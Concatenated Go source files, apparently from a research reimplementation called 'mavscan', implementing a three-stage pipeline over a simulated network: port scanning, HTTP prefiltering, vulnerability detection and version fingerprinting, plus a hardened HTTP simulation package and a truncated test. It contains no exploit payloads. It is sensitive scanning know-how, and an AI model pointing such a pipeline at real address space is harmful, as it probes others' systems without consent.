			for _, obs := range agg.apps {
				report.Apps = append(report.Apps, *obs)
			}
		}
	}
	sort.Slice(report.Apps, func(i, j int) bool {
		if report.Apps[i].App != report.Apps[j].App {
			return report.Apps[i].App < report.Apps[j].App
		}
		return report.Apps[i].IP.Less(report.Apps[j].IP)
	})
}
