// Package scanner wires the paper's three-stage scanning methodology
// (Section 3.1) into one pipeline:
//
//	Stage I   portscan   — which (ip, port) pairs are open,
//	Stage II  prefilter  — which of those speak HTTP(S) and look like one
//	                       of the 18 studied applications,
//	Stage III tsunami    — which of those actually suffer from a MAV,
//	          fingerprint — what version the application runs.
//
// Stage I streams batches into the later stages while the port scan is
// still running, mirroring the paper's batch-wise processing that avoids
// scanning hosts long after they were seen open.
package scanner

import (
	"context"
	"net/netip"
	"sort"
	"sync"
	"time"

	"mavscan/internal/apps"
	"mavscan/internal/fingerprint"
	"mavscan/internal/httpsim"
	"mavscan/internal/mav"
	"mavscan/internal/portscan"
	"mavscan/internal/prefilter"
	"mavscan/internal/simnet"
	"mavscan/internal/tsunami"
	"mavscan/internal/tsunami/plugins"
)

// Options configure a pipeline run.
type Options struct {
	// Targets and Exclude define the address space (Stage I).
	Targets []netip.Prefix
	Exclude []netip.Prefix
	// Ports defaults to mav.ScanPorts().
	Ports []int
	// PortWorkers is the Stage-I pool size (default 64); HTTPWorkers the
	// Stage-II/III pool size (default 32).
	PortWorkers int
	HTTPWorkers int
	// Seed keys the scan-order permutation.
	Seed uint64
	// SkipFingerprint disables the version fingerprinter.
	SkipFingerprint bool
	// RatePerSec caps Stage-I probes per second (0 = unlimited).
	RatePerSec int
}

// PortObservation aggregates Stage I+II information for one (ip, port).
type PortObservation struct {
	IP          netip.Addr
	Port        int
	HTTP, HTTPS bool
}

// AppObservation is the per-(host, app) outcome of stages II/III.
type AppObservation struct {
	IP       netip.Addr
	App      mav.App
	Port     int
	Scheme   string
	Findings []mav.Finding
	Version  string
	Released time.Time
	FPMethod fingerprint.Method
}

// Vulnerable reports whether Stage III confirmed a MAV.
func (o AppObservation) Vulnerable() bool { return len(o.Findings) > 0 }

// Report is the outcome of a full pipeline run.
type Report struct {
	// OpenPorts maps port number to the count of hosts with it open
	// (wildcard-artifact hosts excluded, as in Table 2).
	OpenPorts map[int]int
	// HTTPResponses / HTTPSResponses count stage-II protocol responders
	// per port.
	HTTPResponses  map[int]int
	HTTPSResponses map[int]int
	// ArtifactHosts counts hosts excluded for having every scanned port
	// open without any HTTP behind them.
	ArtifactHosts int
	// Apps holds one observation per (host, app), deduplicated across
	// ports as in Table 3.
	Apps []AppObservation
	// Stats carries Stage-I statistics.
	Stats portscan.Stats
}

// HostsPerApp counts distinct hosts running each application.
func (r *Report) HostsPerApp() map[mav.App]int {
	out := map[mav.App]int{}
	for _, o := range r.Apps {
		out[o.App]++
	}
	return out
}

// MAVsPerApp counts distinct vulnerable hosts per application.
func (r *Report) MAVsPerApp() map[mav.App]int {
	out := map[mav.App]int{}
	for _, o := range r.Apps {
		if o.Vulnerable() {
			out[o.App]++
		}
	}
	return out
}

// VulnerableObservations returns the confirmed-MAV observations.
func (r *Report) VulnerableObservations() []AppObservation {
	var out []AppObservation
	for _, o := range r.Apps {
		if o.Vulnerable() {
			out = append(out, o)
		}
	}
	return out
}

// Pipeline is a ready-to-run scanning pipeline over a simulated network.
type Pipeline struct {
	net    *simnet.Network
	ports  *portscan.Scanner
	pre    *prefilter.Prefilter
	engine *tsunami.Engine
	fp     *fingerprint.Fingerprinter
}

// New assembles the pipeline with all detection plugins installed.
func New(n *simnet.Network) *Pipeline {
	client := httpsim.NewClient(n, httpsim.ClientOptions{
		Timeout:           10 * time.Second,
		DisableKeepAlives: true,
	})
	env := tsunami.NewEnv(client)
	return &Pipeline{
		net:    n,
		ports:  portscan.New(n),
		pre:    prefilter.New(n),
		engine: tsunami.NewEngine(plugins.NewRegistry(), client),
		fp:     fingerprint.New(env),
	}
}

// Run executes the full pipeline.
func (p *Pipeline) Run(ctx context.Context, opts Options) (*Report, error) {
	if len(opts.Ports) == 0 {
		opts.Ports = mav.ScanPorts()
	}
	if opts.HTTPWorkers <= 0 {
		opts.HTTPWorkers = 32
	}

	report := &Report{
		OpenPorts:      map[int]int{},
		HTTPResponses:  map[int]int{},
		HTTPSResponses: map[int]int{},
	}

	// Stage II/III worker pool consuming Stage-I results as they stream.
	type portHit struct {
		ip   netip.Addr
		port int
	}
	hits := make(chan portHit, 1024)

	var mu sync.Mutex
	type hostAgg struct {
		openPorts map[int]bool
		anyHTTP   bool
		// apps maps app -> best observation so far (dedup across ports).
		apps map[mav.App]*AppObservation
	}
	hosts := map[netip.Addr]*hostAgg{}

	var wg sync.WaitGroup
	for w := 0; w < opts.HTTPWorkers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for hit := range hits {
				res := p.pre.Probe(ctx, hit.ip, hit.port)

				mu.Lock()
				agg := hosts[hit.ip]
				if agg == nil {
					agg = &hostAgg{openPorts: map[int]bool{}, apps: map[mav.App]*AppObservation{}}
					hosts[hit.ip] = agg
				}
				agg.openPorts[hit.port] = true
				if res.HTTP {
					report.HTTPResponses[hit.port]++
					agg.anyHTTP = true
				}
				if res.HTTPS {
					report.HTTPSResponses[hit.port]++
					agg.anyHTTP = true
				}
				// Deduplicate: first matching port per (host, app) wins.
				var todo []tsunami.Target
				for _, app := range res.Apps {
					if _, seen := agg.apps[app]; seen {
						continue
					}
					obs := &AppObservation{IP: hit.ip, App: app, Port: hit.port, Scheme: res.Scheme}
					agg.apps[app] = obs
					todo = append(todo, tsunami.Target{IP: hit.ip, Port: hit.port, Scheme: res.Scheme, App: app})
				}
				mu.Unlock()

				for _, t := range todo {
					findings := p.engine.Scan(ctx, t)
					var fpRes fingerprint.Result
					if !opts.SkipFingerprint {
						fpRes = p.fp.Fingerprint(ctx, t)
					}
					mu.Lock()
					obs := hosts[hit.ip].apps[t.App]
					obs.Findings = findings
					obs.Version = fpRes.Version
					obs.FPMethod = fpRes.Method
					if fpRes.Version != "" {
						// Map the fingerprinted version to its public
						// release date for the age analyses (Figure 1).
						if rel, err := apps.ReleaseDate(t.App, fpRes.Version); err == nil {
							obs.Released = rel
						}
					}
					mu.Unlock()
				}
			}
		}()
	}

	stats, scanErr := p.ports.Scan(ctx, portscan.Config{
		Targets:    opts.Targets,
		Exclude:    opts.Exclude,
		Ports:      opts.Ports,
		Workers:    opts.PortWorkers,
		Seed:       opts.Seed,
		RatePerSec: opts.RatePerSec,
	}, func(r portscan.Result) {
		hits <- portHit{ip: r.IP, port: r.Port}
	})
	close(hits)
	wg.Wait()
	if scanErr != nil {
		return nil, scanErr
	}
	report.Stats = stats

	// Fold per-host aggregates into the report, excluding the
	// all-ports-open artifact hosts (hosts where every scanned port was
	// open yet nothing spoke HTTP) as the paper did for Table 2.
	for _, agg := range hosts {
		if len(agg.openPorts) == len(opts.Ports) && !agg.anyHTTP {
			report.ArtifactHosts++
			continue
		}
		for port := range agg.openPorts {
			report.OpenPorts[port]++
		}
		for _, obs := range agg.apps {
			report.Apps = append(report.Apps, *obs)
		}
	}
	sort.Slice(report.Apps, func(i, j int) bool {
		if report.Apps[i].App != report.Apps[j].App {
			return report.Apps[i].App < report.Apps[j].App
		}
		return report.Apps[i].IP.Less(report.Apps[j].IP)
	})
	return report, nil
}
