// Package scanner wires the paper's three-stage scanning methodology
// (Section 3.1) into one pipeline:
//
//	Stage I   portscan   — which (ip, port) pairs are open,
//	Stage II  prefilter  — which of those speak HTTP(S) and look like one
//	                       of the 18 studied applications,
//	Stage III tsunami    — which of those actually suffer from a MAV,
//	          fingerprint — what version the application runs.
//
// Stage I streams batches into the later stages while the port scan is
// still running, mirroring the paper's batch-wise processing that avoids
// scanning hosts long after they were seen open.
package scanner

import (
	"context"
	"fmt"
	"net/netip"
	"runtime/pprof"
	"strconv"
	"sync"
	"time"

	"mavscan/internal/apps"
	"mavscan/internal/fingerprint"
	"mavscan/internal/httpsim"
	"mavscan/internal/iprange"
	"mavscan/internal/mav"
	"mavscan/internal/portscan"
	"mavscan/internal/prefilter"
	"mavscan/internal/resilience"
	"mavscan/internal/simnet"
	"mavscan/internal/telemetry"
	"mavscan/internal/tsunami"
	"mavscan/internal/tsunami/plugins"
)

// Options configure a pipeline run.
type Options struct {
	// Targets and Exclude define the address space (Stage I).
	Targets []netip.Prefix
	Exclude []netip.Prefix
	// Space, when non-nil, overrides Targets and Exclude with a precomputed
	// scan space (see portscan.Config.Space). The orchestrator uses it to
	// run one pipeline per flat-index shard of the global space.
	Space *iprange.Set
	// Ports defaults to mav.ScanPorts().
	Ports []int
	// PortWorkers is the Stage-I pool size (default 64); HTTPWorkers the
	// Stage-II/III pool size (default 32).
	PortWorkers int
	HTTPWorkers int
	// Seed keys the scan-order permutation.
	Seed uint64
	// SkipFingerprint disables the version fingerprinter.
	SkipFingerprint bool
	// RatePerSec caps Stage-I probes per second (0 = unlimited).
	RatePerSec int
}

// PortObservation aggregates Stage I+II information for one (ip, port).
type PortObservation struct {
	IP          netip.Addr
	Port        int
	HTTP, HTTPS bool
}

// AppObservation is the per-(host, app) outcome of stages II/III.
type AppObservation struct {
	IP       netip.Addr
	App      mav.App
	Port     int
	Scheme   string
	Findings []mav.Finding
	Version  string
	Released time.Time
	FPMethod fingerprint.Method
}

// Vulnerable reports whether Stage III confirmed a MAV.
func (o AppObservation) Vulnerable() bool { return len(o.Findings) > 0 }

// Report is the outcome of a full pipeline run.
type Report struct {
	// OpenPorts maps port number to the count of hosts with it open
	// (wildcard-artifact hosts excluded, as in Table 2).
	OpenPorts map[int]int
	// HTTPResponses / HTTPSResponses count stage-II protocol responders
	// per port.
	HTTPResponses  map[int]int
	HTTPSResponses map[int]int
	// ArtifactHosts counts hosts excluded for having every scanned port
	// open without any HTTP behind them.
	ArtifactHosts int
	// Apps holds one observation per (host, app), deduplicated across
	// ports as in Table 3.
	Apps []AppObservation
	// Stats carries Stage-I statistics.
	Stats portscan.Stats
}

// HostsPerApp counts distinct hosts running each application.
func (r *Report) HostsPerApp() map[mav.App]int {
	out := map[mav.App]int{}
	for _, o := range r.Apps {
		out[o.App]++
	}
	return out
}

// MAVsPerApp counts distinct vulnerable hosts per application.
func (r *Report) MAVsPerApp() map[mav.App]int {
	out := map[mav.App]int{}
	for _, o := range r.Apps {
		if o.Vulnerable() {
			out[o.App]++
		}
	}
	return out
}

// VulnerableObservations returns the confirmed-MAV observations.
func (r *Report) VulnerableObservations() []AppObservation {
	var out []AppObservation
	for _, o := range r.Apps {
		if o.Vulnerable() {
			out = append(out, o)
		}
	}
	return out
}

// Pipeline is a ready-to-run scanning pipeline over a simulated network.
// Its configuration is fixed at construction: see New and the With*
// options.
type Pipeline struct {
	net    *simnet.Network
	ports  *portscan.Scanner
	pre    *prefilter.Prefilter
	engine *tsunami.Engine
	fp     *fingerprint.Fingerprinter
	reg    *telemetry.Registry
	queue  *telemetry.Gauge
	shard  ShardPlan
	// Per-stage retriers; nil when no resilience policy is installed.
	retrPre, retrScan, retrFP *resilience.Retrier
}

// ShardPlan identifies a pipeline's slot in an orchestrated sharded scan.
// The zero value means unsharded. It is declared here rather than in the
// orchestrator so the pipeline can label its telemetry per shard without
// an import cycle.
type ShardPlan struct {
	// Shard is the 0-based shard index.
	Shard int
	// Shards is the total shard count; 0 or 1 means unsharded.
	Shards int
}

// settings collects what the functional options configure before the
// pipeline is assembled, removing the ordering hazards of the former
// mutator API (SetResilience had to precede Instrument).
type settings struct {
	policy      resilience.Policy
	reg         *telemetry.Registry
	shard       ShardPlan
	httpTimeout time.Duration
}

// Option configures a Pipeline at construction time.
type Option func(*settings)

// WithResilience installs a retry/backoff policy on the HTTP stages
// (prefilter, tsunami, fingerprint); Stage I keeps masscan's shoot-once
// semantics — the observer, not the port scan, is where missed SYNs
// matter. Backoff delays are computed and recorded but waits complete
// instantly (an immediate sleeper), the right semantics for simulated
// studies, where only the simulated timeline may pass time. A disabled
// policy (zero value) is a no-op, so the option can be passed
// unconditionally.
func WithResilience(policy resilience.Policy) Option {
	return func(s *settings) { s.policy = policy }
}

// WithTelemetry registers metrics and spans for the whole pipeline with
// reg, fanning out to every stage's own Instrument method. A nil registry
// is a no-op, so the option can be passed unconditionally.
func WithTelemetry(reg *telemetry.Registry) Option {
	return func(s *settings) { s.reg = reg }
}

// WithShardPlan marks the pipeline as one shard of an orchestrated scan:
// its root span is prefixed "shardNN." so the span tree attributes stage
// timings per shard.
func WithShardPlan(plan ShardPlan) Option {
	return func(s *settings) { s.shard = plan }
}

// WithHTTPTimeout overrides the 10-second default HTTP timeout of the
// Stage-II/III clients. The same value becomes each connection's wall
// budget (httpsim's watchdog), which is what bounds the cost of a tarpit
// or slow-loris endpoint to one short exchange: against a hostile-seeded
// population, a smaller timeout is the difference between a scan that
// finishes and one that idles in adversarial pits. Zero or negative keeps
// the default.
func WithHTTPTimeout(d time.Duration) Option {
	return func(s *settings) { s.httpTimeout = d }
}

// New assembles the pipeline with all detection plugins installed,
// configured by the given options.
func New(n *simnet.Network, opts ...Option) *Pipeline {
	var cfg settings
	for _, o := range opts {
		o(&cfg)
	}
	if cfg.httpTimeout <= 0 {
		cfg.httpTimeout = 10 * time.Second
	}
	client := httpsim.NewClient(n, httpsim.ClientOptions{
		Timeout:           cfg.httpTimeout,
		DisableKeepAlives: true,
	})
	// The prefilter's client mirrors prefilter.New's, under the same
	// timeout override.
	preClient := httpsim.NewClient(n, httpsim.ClientOptions{
		Timeout:           cfg.httpTimeout,
		MaxRedirects:      5,
		DisableKeepAlives: true,
	})
	env := tsunami.NewEnv(client)
	p := &Pipeline{
		net:    n,
		ports:  portscan.New(n),
		pre:    prefilter.NewWithClient(preClient),
		engine: tsunami.NewEngine(plugins.NewRegistry(), client),
		fp:     fingerprint.New(env),
		shard:  cfg.shard,
	}
	if cfg.policy.Enabled() {
		p.retrPre = resilience.New(cfg.policy, nil)
		p.retrScan = resilience.New(cfg.policy, nil)
		p.retrFP = resilience.New(cfg.policy, nil)
		p.pre.SetRetrier(p.retrPre)
		p.engine.SetRetrier(p.retrScan)
		p.fp.SetRetrier(p.retrFP)
	}
	if cfg.reg.Enabled() {
		p.reg = cfg.reg
		p.queue = cfg.reg.Gauge("mavscan_scanner_queue_depth")
		p.ports.Instrument(cfg.reg)
		p.pre.Instrument(cfg.reg)
		p.engine.Instrument(cfg.reg)
		p.fp.Instrument(cfg.reg)
		p.retrPre.Instrument(cfg.reg, "prefilter")
		p.retrScan.Instrument(cfg.reg, "tsunami")
		p.retrFP.Instrument(cfg.reg, "fingerprint")
	}
	return p
}

// spanName prefixes base with the pipeline's shard slot, so orchestrated
// runs produce one attributable span tree per shard.
func (p *Pipeline) spanName(base string) string {
	if p.shard.Shards > 1 {
		return fmt.Sprintf("shard%02d.%s", p.shard.Shard, base)
	}
	return base
}

// Run executes the full pipeline.
func (p *Pipeline) Run(ctx context.Context, opts Options) (*Report, error) {
	if len(opts.Ports) == 0 {
		opts.Ports = mav.ScanPorts()
	}
	if opts.HTTPWorkers <= 0 {
		opts.HTTPWorkers = 32
	}

	report := &Report{
		OpenPorts:      map[int]int{},
		HTTPResponses:  map[int]int{},
		HTTPSResponses: map[int]int{},
	}

	// Root span covering the whole run; stage spans hang off it so the
	// snapshot shows how long Stage I overlapped the Stage-II/III drain.
	// Stage transitions also land in the event log — spans need both ends
	// before they appear in a snapshot, events stream as they happen.
	pipeSpan := p.reg.StartSpan(p.spanName("pipeline.run"))
	stage1Span := pipeSpan.Child("stage1.portscan")
	stage23Span := pipeSpan.Child("stage23.workers")
	p.reg.Event(p.spanName("pipeline.start"))

	// Stage II/III worker pool consuming Stage-I results while the port
	// scan is still running. The handoff is batch-granular: Stage-I workers
	// flush open ports in slices, so channel synchronization is paid once
	// per batch instead of once per open port.
	hits := make(chan []portscan.Result, 64)
	agg := newAggregator()

	var wg sync.WaitGroup
	for w := 0; w < opts.HTTPWorkers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			pprof.Do(ctx, pprof.Labels("mavscan_pool", "stage23.http"), func(ctx context.Context) {
				for batch := range hits {
					p.queue.Sub(1)
					for _, hit := range batch {
						// Canceled: keep draining batches so Stage-I
						// flushers never block, but probe nothing more.
						if ctx.Err() != nil {
							break
						}
						res := p.pre.Probe(ctx, hit.IP, hit.Port)
						todo := agg.observe(hit.IP, hit.Port, res)
						for _, t := range todo {
							if ctx.Err() != nil {
								break
							}
							findings := p.engine.Scan(ctx, t)
							var fpRes fingerprint.Result
							if !opts.SkipFingerprint {
								fpRes = p.fp.Fingerprint(ctx, t)
							}
							agg.update(t.IP, t.App, func(obs *AppObservation) {
								obs.Findings = findings
								obs.Version = fpRes.Version
								obs.FPMethod = fpRes.Method
								if fpRes.Version != "" {
									// Map the fingerprinted version to its public
									// release date for the age analyses (Figure 1).
									if rel, err := apps.ReleaseDate(t.App, fpRes.Version); err == nil {
										obs.Released = rel
									}
								}
							})
						}
					}
				}
			})
		}()
	}

	stats, scanErr := p.ports.ScanBatches(ctx, portscan.Config{
		Targets:    opts.Targets,
		Exclude:    opts.Exclude,
		Space:      opts.Space,
		Ports:      opts.Ports,
		Workers:    opts.PortWorkers,
		Seed:       opts.Seed,
		RatePerSec: opts.RatePerSec,
	}, func(batch []portscan.Result) {
		p.queue.Add(1)
		hits <- batch
	})
	stage1Span.End()
	p.reg.Event(p.spanName("pipeline.stage1.done"),
		"probed", strconv.FormatUint(stats.Probed, 10),
		"open", strconv.FormatUint(stats.Open, 10))
	close(hits)
	wg.Wait()
	stage23Span.End()
	pipeSpan.End()
	p.reg.Event(p.spanName("pipeline.done"))
	if scanErr != nil {
		return nil, scanErr
	}
	report.Stats = stats

	agg.fold(report, len(opts.Ports))
	return report, nil
}
