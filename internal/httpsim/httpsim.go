// Package httpsim serves real HTTP and HTTPS over simnet connections and
// builds clients that dial through the simulated internet.
//
// Both stages II and III of the scanning pipeline, the honeypot attackers,
// and the commercial-scanner emulations all talk standard net/http through
// the transports constructed here, so the protocol behaviour (redirects,
// chunking, TLS handshakes, certificates) is the real thing.
package httpsim

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"fmt"
	"math/big"
	"net"
	"net/http"
	"net/netip"
	"strconv"
	"sync"
	"time"

	"mavscan/internal/limits"
	"mavscan/internal/resilience"
	"mavscan/internal/simnet"
	"mavscan/internal/simtime"
)

// oneShotListener yields a single pre-established connection and then
// reports closed, letting http.Server drive exactly one connection.
type oneShotListener struct {
	mu   sync.Mutex
	conn net.Conn
}

func (l *oneShotListener) Accept() (net.Conn, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.conn == nil {
		return nil, net.ErrClosed
	}
	c := l.conn
	l.conn = nil
	return c, nil
}

func (l *oneShotListener) Close() error { return nil }
func (l *oneShotListener) Addr() net.Addr {
	return &net.TCPAddr{IP: net.IPv4zero, Port: 0}
}

// maxHeaderBytes caps request headers on simulated servers and response
// headers on the scanning client. A header bomb from either side of the
// wire must fail the one exchange, not grow the process ("Never Trust
// Your Victim" hardening). The value is the shared cap from
// internal/limits, so servers, clients and the lint rules agree on one
// number.
const maxHeaderBytes = limits.MaxHeaderBytes

// ConnHandler returns a simnet connection handler that serves h as plain
// HTTP, with keep-alive support, on every accepted connection.
func ConnHandler(h http.Handler) simnet.ConnHandler {
	srv := &http.Server{
		Handler:           h,
		ReadHeaderTimeout: 10 * time.Second,
		MaxHeaderBytes:    maxHeaderBytes,
	}
	return func(conn net.Conn) {
		// Serve returns once the listener is drained; the connection's own
		// goroutine keeps serving requests until the peer hangs up.
		_ = srv.Serve(&oneShotListener{conn: conn})
	}
}

// TLSConnHandler returns a simnet connection handler that performs a real
// TLS handshake using cert and then serves h.
func TLSConnHandler(h http.Handler, cert tls.Certificate) simnet.ConnHandler {
	cfg := &tls.Config{Certificates: []tls.Certificate{cert}}
	srv := &http.Server{
		Handler:           h,
		ReadHeaderTimeout: 10 * time.Second,
		MaxHeaderBytes:    maxHeaderBytes,
	}
	return func(conn net.Conn) {
		tconn := tls.Server(conn, cfg)
		if err := tconn.Handshake(); err != nil {
			conn.Close()
			return
		}
		_ = srv.Serve(&oneShotListener{conn: tconn})
	}
}

// CA is an in-memory certificate authority minting leaf certificates for
// simulated HTTPS hosts. Keys are shared across leaves: the study needs
// certificate *names* (for responsible disclosure), not key hygiene.
type CA struct {
	key    *ecdsa.PrivateKey
	cert   *x509.Certificate
	der    []byte
	mu     sync.Mutex
	leaves map[string]tls.Certificate
}

// NewCA creates a certificate authority. Generation uses crypto/rand; the
// CA is cheap enough to build per test.
func NewCA() (*CA, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, fmt.Errorf("httpsim: generating CA key: %w", err)
	}
	tmpl := &x509.Certificate{
		SerialNumber:          big.NewInt(1),
		Subject:               pkix.Name{CommonName: "simnet root CA", Organization: []string{"mavscan"}},
		NotBefore:             time.Date(2020, 1, 1, 0, 0, 0, 0, time.UTC),
		NotAfter:              time.Date(2040, 1, 1, 0, 0, 0, 0, time.UTC),
		IsCA:                  true,
		KeyUsage:              x509.KeyUsageCertSign | x509.KeyUsageDigitalSignature,
		BasicConstraintsValid: true,
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		return nil, fmt.Errorf("httpsim: creating CA certificate: %w", err)
	}
	cert, err := x509.ParseCertificate(der)
	if err != nil {
		return nil, fmt.Errorf("httpsim: parsing CA certificate: %w", err)
	}
	return &CA{key: key, cert: cert, der: der, leaves: make(map[string]tls.Certificate)}, nil
}

// Pool returns a certificate pool trusting this CA.
func (ca *CA) Pool() *x509.CertPool {
	pool := x509.NewCertPool()
	pool.AddCert(ca.cert)
	return pool
}

// CertFor returns (minting and caching on first use) a leaf certificate for
// the given subject names. Names that parse as IP addresses become IP SANs;
// everything else becomes a DNS SAN. At least one name is required.
func (ca *CA) CertFor(names ...string) (tls.Certificate, error) {
	if len(names) == 0 {
		return tls.Certificate{}, fmt.Errorf("httpsim: CertFor requires at least one name")
	}
	key := fmt.Sprint(names)
	ca.mu.Lock()
	defer ca.mu.Unlock()
	if leaf, ok := ca.leaves[key]; ok {
		return leaf, nil
	}
	var dns []string
	var ips []net.IP
	for _, name := range names {
		if ip, err := netip.ParseAddr(name); err == nil {
			ips = append(ips, ip.AsSlice())
		} else {
			dns = append(dns, name)
		}
	}
	serial, err := rand.Int(rand.Reader, new(big.Int).Lsh(big.NewInt(1), 64))
	if err != nil {
		return tls.Certificate{}, fmt.Errorf("httpsim: serial: %w", err)
	}
	tmpl := &x509.Certificate{
		SerialNumber: serial,
		Subject:      pkix.Name{CommonName: names[0]},
		NotBefore:    time.Date(2020, 6, 1, 0, 0, 0, 0, time.UTC),
		NotAfter:     time.Date(2030, 6, 1, 0, 0, 0, 0, time.UTC),
		KeyUsage:     x509.KeyUsageDigitalSignature,
		ExtKeyUsage:  []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
		DNSNames:     dns,
		IPAddresses:  ips,
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, ca.cert, &ca.key.PublicKey, ca.key)
	if err != nil {
		return tls.Certificate{}, fmt.Errorf("httpsim: creating leaf: %w", err)
	}
	leaf := tls.Certificate{
		Certificate: [][]byte{der, ca.der},
		PrivateKey:  ca.key,
	}
	ca.leaves[key] = leaf
	return leaf, nil
}

// ClientOptions tune the clients built by NewClient.
type ClientOptions struct {
	// Timeout bounds a whole request including redirects. Zero means the
	// package default of 15 seconds.
	Timeout time.Duration
	// MaxRedirects bounds redirect following; the pipeline follows
	// redirects "until a response body" with a safety cap. Zero means the
	// package default of 5.
	MaxRedirects int
	// SourceIP is the address dials appear to come from; attackers set
	// their own IPs here. The zero value uses simnet's default source.
	SourceIP netip.Addr
	// DisableKeepAlives forces one connection per request, the behaviour of
	// scan tooling that touches millions of distinct hosts.
	DisableKeepAlives bool
	// Retrier, when non-nil, wraps the transport so bodyless requests are
	// retried on transport errors and transient 5xx responses under the
	// retrier's policy (see internal/resilience).
	Retrier *resilience.Retrier
	// Clock paces the per-connection wall budget (nil = the wall clock).
	// Tests inject a fake sleeper to prove tarpits and slow-loris drips
	// terminate without waiting out a real budget.
	Clock simtime.Sleeper
	// Budget is the per-connection wall budget: a watchdog off Clock closes
	// any connection older than Budget regardless of protocol progress,
	// which is what terminates a drip that delivers one byte per timeout
	// window. Zero means Timeout; negative disables the watchdog.
	Budget time.Duration
	// MaxConnBytes caps the cumulative bytes read from one connection,
	// under the protocol layer — the backstop against responders that
	// stream garbage past every header and body cap. Zero means
	// limits.MaxConnBytes; negative disables the cap.
	MaxConnBytes int64
}

// NewClient returns an *http.Client whose connections are dialed through
// the simulated network. TLS verification is disabled, matching how the
// scanning pipeline treats the self-signed certificates that dominate
// admin endpoints.
func NewClient(n *simnet.Network, opts ClientOptions) *http.Client {
	if opts.Timeout == 0 {
		opts.Timeout = 15 * time.Second
	}
	if opts.MaxRedirects == 0 {
		opts.MaxRedirects = 5
	}
	if opts.Budget == 0 {
		opts.Budget = opts.Timeout
	}
	dial := func(ctx context.Context, network, address string) (net.Conn, error) {
		var conn net.Conn
		var err error
		if opts.SourceIP.IsValid() {
			host, portStr, splitErr := net.SplitHostPort(address)
			if splitErr != nil {
				return nil, splitErr
			}
			ip, parseErr := netip.ParseAddr(host)
			if parseErr != nil {
				return nil, fmt.Errorf("httpsim: bad host %q: %w", host, parseErr)
			}
			port, portErr := strconv.Atoi(portStr)
			if portErr != nil || port < 1 || port > 65535 {
				return nil, fmt.Errorf("httpsim: bad port %q", portStr)
			}
			conn, err = n.DialFrom(ctx, opts.SourceIP, ip, port)
		} else {
			conn, err = n.DialContext(ctx, network, address)
		}
		if err != nil {
			return nil, err
		}
		return harden(conn, opts), nil
	}
	transport := &http.Transport{
		DialContext:       dial,
		TLSClientConfig:   &tls.Config{InsecureSkipVerify: true},
		DisableKeepAlives: opts.DisableKeepAlives,
		// The pipeline fans out over many hosts; idle pooling to the same
		// host is rarely useful, keep the pool small.
		MaxIdleConns:        64,
		MaxIdleConnsPerHost: 2,
		// A probed endpoint controls its response headers; cap them so a
		// header bomb fails the request instead of exhausting the scanner.
		MaxResponseHeaderBytes: maxHeaderBytes,
	}
	maxRedirects := opts.MaxRedirects
	var rt http.RoundTripper = transport
	if opts.Retrier != nil {
		rt = opts.Retrier.RoundTripper(transport)
	}
	return &http.Client{
		Transport: rt,
		Timeout:   opts.Timeout,
		CheckRedirect: func(req *http.Request, via []*http.Request) error {
			// via holds the requests already issued: following the k-th
			// redirect is checked with len(via) == k, so the cap must use a
			// strict comparison — ">=" would stop one hop short of the
			// advertised maximum.
			if len(via) > maxRedirects {
				return fmt.Errorf("httpsim: stopped after %d redirects", maxRedirects)
			}
			return nil
		},
	}
}

// harden applies the shared read budgets from internal/limits to a dialed
// connection: a cumulative byte cap under the protocol layer and a
// wall-clock watchdog, the two enforcement points a weaponized endpoint
// cannot negotiate with. Everything above them — header caps, body caps,
// redirect caps — is protocol-level and already enforced elsewhere.
func harden(conn net.Conn, opts ClientOptions) net.Conn {
	if opts.MaxConnBytes >= 0 {
		conn = limits.Conn(conn, opts.MaxConnBytes)
	}
	if opts.Budget > 0 {
		stop := limits.Watchdog(conn, opts.Clock, opts.Budget)
		conn = &guardedConn{Conn: conn, stop: stop}
	}
	return conn
}

// guardedConn retires its watchdog when the connection closes normally, so
// an orderly exchange never leaks a pending timer goroutine for the rest
// of the budget.
type guardedConn struct {
	net.Conn
	stop func()
}

func (c *guardedConn) Close() error {
	c.stop()
	return c.Conn.Close()
}

// FetchCertificate performs a TLS handshake against (ip, 443-style port)
// and returns the presented leaf certificate. The responsible-disclosure
// step uses it to recover contactable domain names.
func FetchCertificate(ctx context.Context, n *simnet.Network, ip netip.Addr, port int) (*x509.Certificate, error) {
	conn, err := n.Dial(ctx, ip, port)
	if err != nil {
		return nil, err
	}
	defer conn.Close()
	tconn := tls.Client(conn, &tls.Config{InsecureSkipVerify: true})
	if err := tconn.HandshakeContext(ctx); err != nil {
		return nil, fmt.Errorf("httpsim: handshake with %s:%d: %w", ip, port, err)
	}
	defer tconn.Close()
	state := tconn.ConnectionState()
	if len(state.PeerCertificates) == 0 {
		return nil, fmt.Errorf("httpsim: no peer certificate from %s:%d", ip, port)
	}
	return state.PeerCertificates[0], nil
}
