package httpsim

import (
	"context"
	"crypto/x509"
	"fmt"
	"io"
	"net/http"
	"net/netip"
	"testing"
	"time"

	"mavscan/internal/simnet"
)

var testIP = netip.MustParseAddr("10.0.0.1")

func helloHandler(msg string) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, msg)
	})
}

func TestPlainHTTPOverSimnet(t *testing.T) {
	n := simnet.New()
	h := simnet.NewHost(testIP)
	h.Bind(80, ConnHandler(helloHandler("hello")))
	if err := n.AddHost(h); err != nil {
		t.Fatal(err)
	}
	client := NewClient(n, ClientOptions{})
	resp, err := client.Get("http://10.0.0.1:80/")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	if string(body) != "hello" {
		t.Fatalf("body = %q", body)
	}
}

func TestKeepAliveServesMultipleRequests(t *testing.T) {
	n := simnet.New()
	count := 0
	h := simnet.NewHost(testIP)
	h.Bind(80, ConnHandler(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		count++
		fmt.Fprintf(w, "%d", count)
	})))
	if err := n.AddHost(h); err != nil {
		t.Fatal(err)
	}
	client := NewClient(n, ClientOptions{}) // keep-alives enabled
